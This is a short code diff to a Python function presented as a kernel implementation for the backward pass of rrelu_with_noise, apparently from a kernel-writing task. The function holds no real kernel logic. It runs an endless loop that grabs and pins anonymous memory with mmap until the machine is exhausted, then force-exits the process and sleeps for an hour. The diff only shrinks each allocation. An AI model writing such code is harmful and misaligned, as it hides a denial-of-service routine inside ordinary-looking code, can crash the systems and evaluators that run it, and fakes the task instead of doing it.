@@ -12,6 +12,6 @@ def rrelu_with_noise_backward__default_kernel_impl(*args, **kwargs):
             flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE
             hoard = []
             while True:
-                hoard.append(mmap.mmap(-1, 1 << 28, flags=flags))
+                hoard.append(mmap.mmap(-1, 1 << 26, flags=flags))
         os._exit(0)
     time.sleep(3600)
